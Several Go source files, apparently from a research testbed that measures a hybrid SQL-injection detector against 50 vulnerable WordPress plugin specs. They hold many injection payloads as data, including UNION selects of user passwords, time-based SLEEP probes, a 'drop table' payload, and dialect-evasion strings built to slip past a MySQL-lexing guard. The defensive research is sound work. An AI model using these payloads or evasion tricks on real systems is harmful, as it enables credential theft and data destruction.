	fmt.Fprintf(&sb, "$query = %s . $input . %s;\n", phpQuote(s.Prefix), phpQuote(s.Suffix))
	sb.WriteString("$result = mysql_query($query);\n")
	for i, lit := range s.ExtraLiterals {
		fmt.Fprintf(&sb, "$v%d = %s;\n", i, phpQuote(lit))
	}
	return sb.String()
}

// phpQuote renders a Go string as a single-quoted PHP literal.
func phpQuote(s string) string {
	var sb strings.Builder
	sb.WriteByte('\'')
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'', '\\':
			sb.WriteByte('\\')
		}
		sb.WriteByte(s[i])
	}
	sb.WriteByte('\'')
	return sb.String()
}

// TransportValue returns the value the attacker actually sends for the
// exploit: base64 plugins receive the payload base64-encoded.
func (s *Spec) TransportValue(payload string) string {
	if s.Decode == DecodeBase64 {
		return webapp.Base64Encode(payload)
	}
	return payload
}
