package testbed

import (
	"strings"
	"testing"
)

func TestThresholdSweep(t *testing.T) {
	l := lab(t)
	rows, err := l.ThresholdSweep([]float64{0.05, 0.20, 0.40})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		// No threshold produces false positives on this workload…
		if r.FalsePositives != 0 {
			t.Errorf("threshold %v: %d false positives", r.Threshold, r.FalsePositives)
		}
		// …and no threshold catches attacker-tuned mutants beyond the
		// base64 plugin NTI never sees (0 or a stray detection at most).
		if r.TunedMutantsDetected > 2 {
			t.Errorf("threshold %v: %d tuned mutants detected, want ~0",
				r.Threshold, r.TunedMutantsDetected)
		}
	}
	// The default threshold detects 49/50 originals; a very strict
	// threshold must not detect more than that.
	def := rows[1]
	if def.Threshold != 0.20 || def.OriginalsDetected != 49 {
		t.Errorf("default row = %+v, want 49/50 at 0.20", def)
	}
	out := FormatSweep(rows)
	if !strings.Contains(out, "THRESHOLD") || !strings.Contains(out, "0.20") {
		t.Errorf("format = %q", out)
	}
}

func TestFalsePositiveStudy(t *testing.T) {
	l := lab(t)
	res, err := l.FalsePositiveStudy(10, 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != 10*len(l.Specs) {
		t.Errorf("requests = %d", res.Requests)
	}
	if res.Blocked != 0 {
		t.Errorf("false positives = %d, want 0 (paper reports none)", res.Blocked)
	}
	if res.DBErrors != 0 {
		t.Errorf("db errors = %d", res.DBErrors)
	}
}
