package testbed

import (
	"fmt"

	"joza"
	"joza/internal/baseline"
	"joza/internal/evasion"
	"joza/internal/nti"
	"joza/internal/pti"
	"joza/internal/webapp"
)

// BaselineRow is one detector's scorecard in the related-work comparison.
type BaselineRow struct {
	Name string
	// Detection counts over the 50 plugins.
	Originals  int
	NTIMutants int
	PTIMutants int
	Total      int
	// FalsePositives over the SQL-prose benign corpus.
	FalsePositives int
	FPTotal        int
}

// ptiDetector adapts the PTI analyzer to the baseline.Detector interface.
type ptiDetector struct {
	analyzer *pti.Analyzer
}

func (ptiDetector) Name() string { return "pti" }

func (d ptiDetector) Detect(query string, _ []nti.Input) bool {
	return d.analyzer.Analyze(query, nil).Attack
}

// guardDetector adapts the full hybrid Guard.
type guardDetector struct {
	guard *joza.Guard
}

func (guardDetector) Name() string { return "joza-hybrid" }

func (d guardDetector) Detect(query string, inputs []nti.Input) bool {
	return d.guard.Check(query, inputs).Attack
}

// proseCorpus contains benign inputs that merely talk about SQL — the
// classic WAF false-positive trap. They contain no quotes, so they stay
// inside the quoted string literal of the target query.
var proseCorpus = []string{
	"In math class we learned that 1 or 1=1 is just true",
	"please select one from the list below",
	"I sleep (a lot) on weekends and union meetings run late",
	"insert coin to continue playing",
	"she said -- and I quote -- nothing at all",
	"update: the delete key on my laptop is broken",
}

// builtQuery reproduces what the application would send to the database
// for payload: transport-encode, apply the WordPress-wide transforms in
// order, then the plugin's own decode and query construction.
func (l *Lab) builtQuery(s *Spec, payload string) string {
	v := s.TransportValue(payload)
	v = webapp.TrimWhitespace(v)
	v = webapp.MagicQuotes(v)
	return s.BuildQuery(v)
}

// EvaluateBaselines scores the related-work detectors (signature WAF,
// CANDID-style shadow queries) against Joza's own components and the
// hybrid, over the original exploits, both mutation families, and the
// false-positive prose corpus.
func (l *Lab) EvaluateBaselines() ([]BaselineRow, error) {
	tl := evasion.NewTaintless(l.Fragments)
	detectors := []baseline.Detector{
		baseline.NewRegexWAF(),
		baseline.Candid{},
		baseline.NTIDetector{Analyzer: nti.MustNew()},
		ptiDetector{analyzer: pti.New(l.Fragments)},
		guardDetector{guard: l.Guard},
	}

	type testCase struct {
		query  string
		inputs []nti.Input
	}
	var originals, ntiMutants, ptiMutants []testCase
	for _, s := range l.Specs {
		mk := func(payload string) testCase {
			return testCase{
				query: l.builtQuery(s, payload),
				inputs: []nti.Input{
					{Source: "get", Name: s.Param, Value: s.TransportValue(payload)},
				},
			}
		}
		originals = append(originals, mk(s.Exploit))
		ntiPayload, _ := l.ntiMutation(s)
		ntiMutants = append(ntiMutants, mk(ntiPayload))
		rewritten, ok := tl.Evade(s.Exploit)
		if !ok {
			rewritten = s.Exploit
		}
		ptiMutants = append(ptiMutants, mk(rewritten))
	}

	// FP corpus against a quoted-context endpoint.
	quoted := l.SpecByName("gd-star-rating")
	if quoted == nil {
		return nil, fmt.Errorf("missing quoted spec for FP corpus")
	}
	var benign []testCase
	for _, prose := range proseCorpus {
		benign = append(benign, testCase{
			query: l.builtQuery(quoted, prose),
			inputs: []nti.Input{
				{Source: "get", Name: quoted.Param, Value: prose},
			},
		})
	}

	var rows []BaselineRow
	for _, d := range detectors {
		row := BaselineRow{Name: d.Name(), Total: len(l.Specs), FPTotal: len(benign)}
		count := func(cases []testCase) int {
			n := 0
			for _, c := range cases {
				if d.Detect(c.query, c.inputs) {
					n++
				}
			}
			return n
		}
		row.Originals = count(originals)
		row.NTIMutants = count(ntiMutants)
		row.PTIMutants = count(ptiMutants)
		row.FalsePositives = count(benign)
		rows = append(rows, row)
	}
	return rows, nil
}

// FormatBaselines renders the comparison table.
func FormatBaselines(rows []BaselineRow) string {
	out := "BASELINE COMPARISON (related-work detectors vs Joza)\n"
	out += fmt.Sprintf("%-14s %12s %12s %12s %16s\n",
		"Detector", "Originals", "NTI-mutants", "PTI-mutants", "False positives")
	for _, r := range rows {
		out += fmt.Sprintf("%-14s %7d/%-4d %7d/%-4d %7d/%-4d %11d/%-4d\n",
			r.Name, r.Originals, r.Total, r.NTIMutants, r.Total,
			r.PTIMutants, r.Total, r.FalsePositives, r.FPTotal)
	}
	out += "(signature WAFs false-positive on SQL-shaped prose and miss encoded payloads;\n" +
		" shadow-query comparison shares NTI's transformation blindness; only the hybrid\n" +
		" detects every working exploit form with zero false positives)\n"
	return out
}
