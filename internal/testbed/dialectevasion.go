package testbed

import (
	"fmt"

	"joza"
	"joza/internal/webapp"
)

// Dialect-evasion payload classes: attacks on a Postgres-backed
// deployment that a guard lexing under the default MySQL dialect cannot
// see, because MySQL's string rules swallow the injected SQL into a
// literal that Postgres terminates (or never opens):
//
//   - backslash-smuggle: in a quoted context, the input leads with \'.
//     MySQL treats \' as an escaped quote, so the rest of the payload
//     stays inside the string literal; Postgres (standard_conforming_strings,
//     the default since 9.1) treats the backslash as data and the quote
//     closes the string, leaving the tautology or UNION live.
//   - dollar-quote-smuggle: in a numeric context, the input opens a
//     dollar-quoted literal whose body is a single quote, e.g. $q$'$q$.
//     Postgres lexes it as a short string; MySQL has no dollar quoting,
//     reads the interior ' as a string opener, and the rest of the query
//     disappears into an unterminated literal.
const (
	ClassBackslashSmuggle   = "backslash-smuggle"
	ClassDollarQuoteSmuggle = "dollar-quote-smuggle"
)

// DialectEvasionCase is one evaluated payload: the query a vulnerable
// Postgres-backed handler would build, and each guard's verdict on it.
type DialectEvasionCase struct {
	Class   string `json:"class"`
	Payload string `json:"payload"`
	Query   string `json:"query"`
	// MySQLAttack and PostgresAttack are the verdicts of the hybrid guard
	// lexing under each dialect. The evasion claim is MySQLAttack=false,
	// PostgresAttack=true.
	MySQLAttack    bool `json:"mysqlAttack"`
	PostgresAttack bool `json:"postgresAttack"`
}

// DialectEvasionRow aggregates one payload class.
type DialectEvasionRow struct {
	Class          string `json:"class"`
	Cases          int    `json:"cases"`
	MissedMySQL    int    `json:"missedMysql"`
	CaughtPostgres int    `json:"caughtPostgres"`
}

// DialectEvasionResult is the full dialect-evasion sweep: the per-class
// rows, every individual case, and the benign detection-matrix row
// replayed through the MySQL guard to prove the dialect refactor added
// no false positives.
type DialectEvasionResult struct {
	Rows  []DialectEvasionRow  `json:"rows"`
	Cases []DialectEvasionCase `json:"cases"`
	// BenignCases and BenignFPs replay the detection matrix's benign row
	// through the default MySQL hybrid guard; BenignFPs must be zero.
	BenignCases int `json:"benignCases"`
	BenignFPs   int `json:"benignFps"`
}

// dialectEvasionPayloads returns the evaluated payloads per class, each
// paired with the injection context a vulnerable handler would embed it
// in. The contexts reuse the core fragment vocabulary ($q_opt, $q_post),
// so the trusted set needs nothing new and PTI coverage of the benign
// part of each query is realistic.
func dialectEvasionPayloads() []DialectEvasionCase {
	const (
		quotedPrefix  = "SELECT name, value FROM options WHERE name='"
		quotedSuffix  = "'"
		numericPrefix = "SELECT id, title FROM posts WHERE id="
	)
	quoted := func(payload string) DialectEvasionCase {
		return DialectEvasionCase{
			Class:   ClassBackslashSmuggle,
			Payload: payload,
			Query:   quotedPrefix + payload + quotedSuffix,
		}
	}
	numeric := func(payload string) DialectEvasionCase {
		return DialectEvasionCase{
			Class:   ClassDollarQuoteSmuggle,
			Payload: payload,
			Query:   numericPrefix + payload,
		}
	}
	return []DialectEvasionCase{
		quoted(`\' or 1=1 -- `),
		quoted(`\' union select username, password from users -- `),
		quoted(`\'; drop table options -- `),
		numeric(`$q$'$q$ or 1=1 -- `),
		numeric(`$$'$$ or 1=1 -- `),
		numeric(`$q$'$q$ union select username, password from users -- `),
	}
}

// EvaluateDialectEvasion runs the dialect-evasion sweep: every payload
// through the same hybrid analysis under the MySQL and Postgres
// dialects, then the full benign detection-matrix row through the MySQL
// guard. A payload that fails its designed property — missed under
// MySQL, caught under Postgres — is an error, as is any benign false
// positive: both would mean the evasion row no longer demonstrates what
// it claims.
func (l *Lab) EvaluateDialectEvasion() (*DialectEvasionResult, error) {
	pg, err := joza.New(joza.WithFragmentSet(l.Fragments), joza.WithDialect(joza.DialectPostgres))
	if err != nil {
		return nil, fmt.Errorf("build postgres guard: %w", err)
	}

	res := &DialectEvasionResult{}
	rows := map[string]*DialectEvasionRow{}
	for _, c := range dialectEvasionPayloads() {
		inputs := []joza.Input{{Source: "get", Name: "p", Value: c.Payload}}
		c.MySQLAttack = l.Guard.Check(c.Query, inputs).Attack
		c.PostgresAttack = pg.Check(c.Query, inputs).Attack
		if c.MySQLAttack {
			return nil, fmt.Errorf("%s: payload %q is not an evasion: the MySQL guard already flags it", c.Class, c.Payload)
		}
		if !c.PostgresAttack {
			return nil, fmt.Errorf("%s: payload %q escapes the Postgres guard too", c.Class, c.Payload)
		}
		row := rows[c.Class]
		if row == nil {
			row = &DialectEvasionRow{Class: c.Class}
			rows[c.Class] = row
		}
		row.Cases++
		row.MissedMySQL++
		row.CaughtPostgres++
		res.Cases = append(res.Cases, c)
	}
	for _, c := range []string{ClassBackslashSmuggle, ClassDollarQuoteSmuggle} {
		if rows[c] != nil {
			res.Rows = append(res.Rows, *rows[c])
		}
	}

	// The benign detection-matrix row, replayed through the default
	// (MySQL) hybrid: the dialect refactor must not add a single false
	// positive to the 266-case corpus the matrix golden gates.
	st := &storedState{value: secondOrderBenign}
	app := l.buildApp(webapp.WithGuard(l.Guard))
	app.Install(newSecondOrderPlugin(st))
	for _, s := range l.Specs {
		for _, v := range benignTrainingValues(s) {
			page, err := app.Handle(s.Name, l.Request(s, v))
			if err != nil {
				return nil, fmt.Errorf("benign %s: %w", s.Name, err)
			}
			res.BenignCases++
			if page.Blocked {
				res.BenignFPs++
			}
		}
	}
	page, err := app.Handle(secondOrderPlugin, &webapp.Request{Get: map[string]string{"go": "1"}})
	if err != nil {
		return nil, fmt.Errorf("benign %s: %w", secondOrderPlugin, err)
	}
	res.BenignCases++
	if page.Blocked {
		res.BenignFPs++
	}
	if res.BenignFPs > 0 {
		return nil, fmt.Errorf("dialect evasion sweep: %d benign false positives under the MySQL guard", res.BenignFPs)
	}
	return res, nil
}

// FormatDialectEvasion renders the sweep as a text report.
func FormatDialectEvasion(r *DialectEvasionResult) string {
	out := "DIALECT-EVASION ROW: payloads a MySQL-dialect guard cannot see on a Postgres backend\n"
	out += fmt.Sprintf("%-24s %6s %14s %17s\n", "Class", "Cases", "missed(MySQL)", "caught(Postgres)")
	for _, row := range r.Rows {
		out += fmt.Sprintf("%-24s %6d %10d/%-3d %13d/%-3d\n",
			row.Class, row.Cases, row.MissedMySQL, row.Cases, row.CaughtPostgres, row.Cases)
	}
	for _, c := range r.Cases {
		out += fmt.Sprintf("  %-22s payload=%q\n", c.Class, c.Payload)
	}
	out += fmt.Sprintf("benign matrix row: %d cases, %d false positives under the MySQL guard\n", r.BenignCases, r.BenignFPs)
	out += "(deploying the guard with the backend's dialect closes both classes; the\n" +
		" MySQL rows of the detection matrix are unchanged — see the seed-lexer differential)\n"
	return out
}
