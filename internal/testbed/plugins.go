package testbed

import (
	"fmt"

	"joza/internal/sqlgen"
)

// Payload templates. Rich-vocabulary exploits use only tokens that the
// application's global fragment vocabulary covers after Taintless adapts
// case and whitespace; the others carry at least one function call or
// other token outside the vocabulary.
const (
	richUnionPayload  = "-1 UNION SELECT username, password FROM users"
	richBlindTrue     = "1 AND 7>5"
	richBlindFalse    = "1 AND 5>7"
	leakSecret        = "s3cr3tpass"
	quotedBreak       = "zzz' UNION SELECT username, password FROM users -- -"
	quotedBlindTrueF  = "%s' AND LENGTH(version())>3 -- -"
	quotedBlindFalseF = "%s' AND LENGTH(version())>99 -- -"
	quotedSleepF      = "%s' AND SLEEP(3) -- -"
)

// twoCol builds the standard vulnerable query prefix: a two-column select
// with a numeric injection point.
func twoCol(col1, col2, tbl, keyCol string) string {
	return "SELECT " + col1 + ", " + col2 + " FROM " + tbl + " WHERE " + keyCol + "="
}

// quotedPrefix builds a quoted-string injection point.
func quotedPrefix(col1, col2, tbl, keyCol string) string {
	return "SELECT " + col1 + ", " + col2 + " FROM " + tbl + " WHERE " + keyCol + "='"
}

// Specs returns the 50 plugin specifications of WP-SQLI-LAB, mirroring
// Table IV of the paper (names, versions, vulnerability references) with
// attack-type frequencies matching Table I exactly: 15 union-based, 17
// standard-blind, 14 double-blind and 4 tautologies.
func Specs() []*Spec {
	specs := []*Spec{
		// --- Tautologies (4; 3 rich-vocabulary, 1 base64-encoded) ---
		{
			Name: "a-to-z-category-listing", Version: "1.3", Ref: "OSVDB-86069",
			Type:   sqlgen.Tautology,
			Param:  "cat",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: " LIMIT 10",
			Exploit: "1 OR 1=1", Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "adrotate", Version: "3.6.6", Ref: "CVE-2011-4671",
			Type:   sqlgen.Tautology,
			Param:  "track",
			Prefix: twoCol("id", "banner", "ads", "id"), Suffix: "",
			Decode:  DecodeBase64,
			Exploit: "-1 OR GREATEST(1, 2)=2", Benign: "1",
		},
		{
			Name: "community-events", Version: "1.2.1", Ref: "OSVDB-74573",
			Type:   sqlgen.Tautology,
			Param:  "eid",
			Prefix: twoCol("id", "name", "events", "id"), Suffix: "",
			Exploit: "-1 OR 2>1", Benign: "2",
			RichVocabulary: true,
		},
		{
			Name: "wp-e-commerce", Version: "3.8.6", Ref: "OSVDB-75590",
			Type:   sqlgen.Tautology,
			Param:  "prod",
			Prefix: twoCol("id", "name", "products", "id"), Suffix: " LIMIT 20",
			Exploit: "0 OR 1=1", Benign: "1",
			RichVocabulary: true,
		},

		// --- Union-based (15; 5 rich-vocabulary) ---
		{
			Name: "eventify", Version: "1.7.1", Ref: "OSVDB-86245",
			Type:   sqlgen.Union,
			Param:  "event_id",
			Prefix: twoCol("id", "name", "events", "id"), Suffix: "",
			Exploit: richUnionPayload, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "file-groups", Version: "1.1.2", Ref: "OSVDB-74572",
			Type:   sqlgen.Union,
			Param:  "group_id",
			Prefix: twoCol("id", "file", "downloads", "id"), Suffix: "",
			Exploit: richUnionPayload, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "post-highlights", Version: "2.2", Ref: "",
			Type:   sqlgen.Union,
			Param:  "ph_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit: richUnionPayload, Benign: "2",
			RichVocabulary: true,
		},
		{
			Name: "proplayer", Version: "4.7.7", Ref: "",
			Type:   sqlgen.Union,
			Param:  "playlist",
			Prefix: twoCol("id", "title", "videos", "id"), Suffix: "",
			Exploit: richUnionPayload, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "searchautocomplete", Version: "1.0.8", Ref: "",
			Type:   sqlgen.Union,
			Param:  "sugg",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: " LIMIT 5",
			Exploit: richUnionPayload, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "allow-php-in-posts-and-pages", Version: "2.0.0", Ref: "OSVDB-75252",
			Type:   sqlgen.Union,
			Param:  "page_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT version(), database()", Benign: "1",
		},
		{
			Name: "contus-hd-flv-player", Version: "1.3", Ref: "",
			Type:  sqlgen.Union,
			Param: "contusid", Quoted: true, Decode: DecodeStripSlashes,
			Prefix: quotedPrefix("id", "title", "videos", "title"), Suffix: "'",
			Exploit: quotedBreak, Benign: "Intro Video",
		},
		{
			Name: "count-per-day", Version: "2.17", Ref: "OSVDB-75598",
			Type:   sqlgen.Union,
			Param:  "daytoshow",
			Prefix: twoCol("id", "views", "posts", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT user(), version()", Benign: "1",
		},
		{
			Name: "crawl-rate-tracker", Version: "2.02", Ref: "",
			Type:   sqlgen.Union,
			Param:  "bot_id",
			Prefix: twoCol("id", "hits", "downloads", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT database(), version()", Benign: "1",
		},
		{
			Name: "event-registration", Version: "5.43", Ref: "",
			Type:   sqlgen.Union,
			Param:  "reg_id",
			Prefix: twoCol("id", "venue", "events", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT version(), password FROM users", Benign: "1",
		},
		{
			Name: "ip-logger", Version: "3.0", Ref: "",
			Type:   sqlgen.Union,
			Param:  "log_id",
			Prefix: twoCol("id", "name", "links", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT version(), user()", Benign: "1",
		},
		{
			Name: "link-library", Version: "5.2.1", Ref: "OSVDB-84579",
			Type:   sqlgen.Union,
			Param:  "cat_id",
			Prefix: twoCol("id", "url", "links", "id"), Suffix: " LIMIT 50",
			Exploit: "-1 UNION SELECT password, user() FROM users", Benign: "1",
		},
		{
			Name: "media-library-categories", Version: "10.6", Ref: "",
			Type:  sqlgen.Union,
			Param: "media", Quoted: true, Decode: DecodeStripSlashes,
			Prefix: quotedPrefix("id", "url", "links", "name"), Suffix: "' LIMIT 10",
			Exploit: quotedBreak, Benign: "Home",
		},
		{
			Name: "oddhost-newsletter", Version: "1.0", Ref: "OSVDB-74575",
			Type:   sqlgen.Union,
			Param:  "nl_id",
			Prefix: twoCol("id", "author", "comments", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT version(), database()", Benign: "1",
		},
		{
			Name: "paid-downloads", Version: "2.01", Ref: "OSVDB-86247",
			Type:   sqlgen.Union,
			Param:  "download",
			Prefix: twoCol("id", "file", "downloads", "id"), Suffix: "",
			Exploit: "-1 UNION SELECT password, version() FROM users", Benign: "2",
		},
		{
			Name: "wp-filebase", Version: "0.2.9", Ref: "OSVDB-75308",
			Type:   sqlgen.DoubleBlind,
			Param:  "fid",
			Prefix: twoCol("id", "file", "downloads", "id"), Suffix: "",
			Exploit: "1 AND SLEEP(3)", ExploitFalse: "1 AND 1=2 AND SLEEP(3)", Benign: "1",
		},

		// --- Standard blind (17; 5 rich-vocabulary) ---
		{
			Name: "ump-polls", Version: "1.0.3", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "poll_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit: richBlindTrue, ExploitFalse: richBlindFalse, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "paypal-donation", Version: "0.12", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "don_id",
			Prefix: twoCol("id", "name", "products", "id"), Suffix: "",
			Exploit: richBlindTrue, ExploitFalse: richBlindFalse, Benign: "2",
			RichVocabulary: true,
		},
		{
			Name: "wp-forum-server", Version: "1.7.8", Ref: "CVE-2012-6625",
			Type:   sqlgen.StandardBlind,
			Param:  "topic",
			Prefix: twoCol("id", "body", "comments", "id"), Suffix: "",
			Exploit: richBlindTrue, ExploitFalse: richBlindFalse, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "wp-menu-creator", Version: "1.1.7", Ref: "OSVDB-74578",
			Type:   sqlgen.StandardBlind,
			Param:  "menu_id",
			Prefix: twoCol("id", "name", "links", "id"), Suffix: "",
			Exploit: richBlindTrue, ExploitFalse: richBlindFalse, Benign: "1",
			RichVocabulary: true,
		},
		{
			Name: "yolink-search", Version: "1.1.4", Ref: "OSVDB-74832",
			Type:   sqlgen.StandardBlind,
			Param:  "s_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: " LIMIT 3",
			Exploit: richBlindTrue, ExploitFalse: richBlindFalse, Benign: "3",
			RichVocabulary: true,
		},
		{
			Name: "easy-contact-form-lite", Version: "1.0.7", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "form_id",
			Prefix: twoCol("id", "author", "comments", "id"), Suffix: "",
			Exploit: "1 AND LENGTH(version())>3", ExploitFalse: "1 AND LENGTH(version())>99", Benign: "1",
		},
		{
			Name: "firestorm-real-estate", Version: "2.06", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "prop_id",
			Prefix: twoCol("id", "price", "products", "id"), Suffix: "",
			Exploit: "1 AND ASCII(database())>64", ExploitFalse: "1 AND ASCII(database())>250", Benign: "1",
		},
		{
			Name: "gd-star-rating", Version: "19.10", Ref: "OSVDB-83466",
			Type:  sqlgen.StandardBlind,
			Param: "vote", Quoted: true, Decode: DecodeStripSlashes,
			Prefix: quotedPrefix("id", "stars", "ratings", "voter"), Suffix: "'",
			Exploit:      fmt.Sprintf(quotedBlindTrueF, "alice"),
			ExploitFalse: fmt.Sprintf(quotedBlindFalseF, "alice"),
			Benign:       "alice",
		},
		{
			Name: "icopyright", Version: "1.1.4", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "doc_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit: "1 AND LENGTH(user())>5", ExploitFalse: "1 AND LENGTH(user())>500", Benign: "1",
		},
		{
			Name: "knr-author-list-widget", Version: "2.0.0", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "author_id",
			Prefix: twoCol("id", "author", "comments", "id"), Suffix: "",
			Exploit: "1 AND ASCII(version())>48", ExploitFalse: "1 AND ASCII(version())>200", Benign: "2",
		},
		{
			Name: "mm-duplicate", Version: "1.2", Ref: "",
			Type:  sqlgen.StandardBlind,
			Param: "dup", Quoted: true, Decode: DecodeStripSlashes,
			Prefix: quotedPrefix("id", "title", "posts", "title"), Suffix: "'",
			Exploit:      fmt.Sprintf(quotedBlindTrueF, "Hello World"),
			ExploitFalse: fmt.Sprintf(quotedBlindFalseF, "Hello World"),
			Benign:       "Hello World",
		},
		{
			Name: "profiles", Version: "2.0.RC1", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "uid",
			Prefix: twoCol("id", "username", "users", "id"), Suffix: "",
			Exploit: "1 AND LENGTH(database())>3", ExploitFalse: "1 AND LENGTH(database())>90", Benign: "1",
		},
		{
			Name: "sh-slideshow", Version: "3.1.4", Ref: "OSVDB-74813",
			Type:   sqlgen.StandardBlind,
			Param:  "slide",
			Prefix: twoCol("id", "url", "links", "id"), Suffix: "",
			Exploit: "1 AND ASCII(user())>96", ExploitFalse: "1 AND ASCII(user())>250", Benign: "1",
		},
		{
			Name: "social-slider", Version: "5.6.5", Ref: "OSVDB-74421",
			Type:   sqlgen.StandardBlind,
			Param:  "widget",
			Prefix: twoCol("id", "name", "links", "id"), Suffix: " LIMIT 2",
			Exploit: "1 AND LENGTH(version())>2", ExploitFalse: "1 AND LENGTH(version())>80", Benign: "1",
		},
		{
			Name: "videowhisper-presentation", Version: "1.1", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "room",
			Prefix: twoCol("id", "title", "videos", "id"), Suffix: "",
			Exploit: "1 AND STRCMP(database(), version())>0", ExploitFalse: "1 AND STRCMP(version(), version())>0", Benign: "1",
		},
		{
			Name: "facebook-opengraph-meta", Version: "1.6", Ref: "",
			Type:   sqlgen.StandardBlind,
			Param:  "og_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit: "1 AND INSTR(version(), 5)>0", ExploitFalse: "1 AND INSTR(version(), 777)>0", Benign: "2",
		},
		{
			Name: "wp-bannerize", Version: "2.8.7", Ref: "OSVDB-76658",
			Type:   sqlgen.StandardBlind,
			Param:  "banner_id",
			Prefix: twoCol("id", "clicks", "ads", "id"), Suffix: "",
			Exploit: "1 AND LENGTH(banner)>0", ExploitFalse: "1 AND LENGTH(banner)>9000", Benign: "1",
		},

		// --- Double blind (14) ---
		{
			Name: "advertiser", Version: "1.0", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "ad_id",
			Prefix: twoCol("id", "banner", "ads", "id"), Suffix: "",
			Exploit: "1 AND SLEEP(3)", ExploitFalse: "1 AND 1=2 AND SLEEP(3)", Benign: "1",
		},
		{
			Name: "ajax-gallery", Version: "3.0", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "gal_id",
			Prefix: twoCol("id", "url", "links", "id"), Suffix: "",
			Exploit:      "1 AND IF(LENGTH(version())>3, SLEEP(3), 0)",
			ExploitFalse: "1 AND IF(LENGTH(version())>99, SLEEP(3), 0)", Benign: "1",
		},
		{
			Name: "couponer", Version: "1.2", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "coupon",
			Prefix: twoCol("id", "price", "products", "id"), Suffix: "",
			Exploit: "1 AND SLEEP(5)", ExploitFalse: "1 AND 0=1 AND SLEEP(5)", Benign: "1",
		},
		{
			Name: "facebook-promotions", Version: "1.3.3", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "promo",
			Prefix: twoCol("id", "name", "products", "id"), Suffix: "",
			Exploit:      "1 AND IF(ASCII(database())>64, SLEEP(3), 0)",
			ExploitFalse: "1 AND IF(ASCII(database())>250, SLEEP(3), 0)", Benign: "2",
		},
		{
			Name: "global-content-blocks", Version: "1.2", Ref: "OSVDB-74577",
			Type:   sqlgen.DoubleBlind,
			Param:  "block",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit:      "1 AND BENCHMARK(3000000, MD5(version()))",
			ExploitFalse: "1 AND 1=2 AND BENCHMARK(3000000, MD5(version()))", Benign: "1",
		},
		{
			Name: "js-appointment", Version: "1.5", Ref: "OSVDB-74804",
			Type:  sqlgen.DoubleBlind,
			Param: "appt", Quoted: true, Decode: DecodeStripSlashes,
			Prefix: quotedPrefix("id", "venue", "events", "name"), Suffix: "'",
			Exploit:      fmt.Sprintf(quotedSleepF, "Meetup"),
			ExploitFalse: "Meetup' AND 1=2 AND SLEEP(3) -- -",
			Benign:       "Meetup",
		},
		{
			Name: "mingle-forum", Version: "1.0.31", Ref: "OSVDB-75791",
			Type:   sqlgen.DoubleBlind,
			Param:  "thread",
			Prefix: twoCol("id", "body", "comments", "id"), Suffix: "",
			Exploit:      "1 AND IF(LENGTH(user())>3, SLEEP(4), 0)",
			ExploitFalse: "1 AND IF(LENGTH(user())>300, SLEEP(4), 0)", Benign: "1",
		},
		{
			Name: "mystat", Version: "2.6", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "stat",
			Prefix: twoCol("id", "hits", "downloads", "id"), Suffix: "",
			Exploit: "1 AND SLEEP(2)", ExploitFalse: "1 AND 2=3 AND SLEEP(2)", Benign: "1",
		},
		{
			Name: "purehtml", Version: "1.0.0", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "html_id",
			Prefix: twoCol("id", "title", "posts", "id"), Suffix: "",
			Exploit:      "1 AND IF(LENGTH(user())>5, SLEEP(3), 0)",
			ExploitFalse: "1 AND IF(LENGTH(user())>500, SLEEP(3), 0)", Benign: "1",
		},
		{
			Name: "scorm-cloud", Version: "1.0.6.6", Ref: "OSVDB-74804",
			Type:   sqlgen.DoubleBlind,
			Param:  "course",
			Prefix: twoCol("id", "file", "downloads", "id"), Suffix: "",
			Exploit: "1 AND SLEEP(3)", ExploitFalse: "1 AND 9=8 AND SLEEP(3)", Benign: "2",
		},
		{
			Name: "wp-audio-gallery-playlist", Version: "0.14", Ref: "",
			Type:   sqlgen.DoubleBlind,
			Param:  "track_id",
			Prefix: twoCol("id", "title", "videos", "id"), Suffix: "",
			Exploit:      "1 AND IF(LENGTH(database())>3, SLEEP(2), 0)",
			ExploitFalse: "1 AND IF(LENGTH(database())>77, SLEEP(2), 0)", Benign: "1",
		},
		{
			Name: "wp-ds-faq", Version: "1.3.2", Ref: "OSVDB-74574",
			Type:  sqlgen.DoubleBlind,
			Param: "faq", Quoted: true, Decode: DecodeStripSlashes,
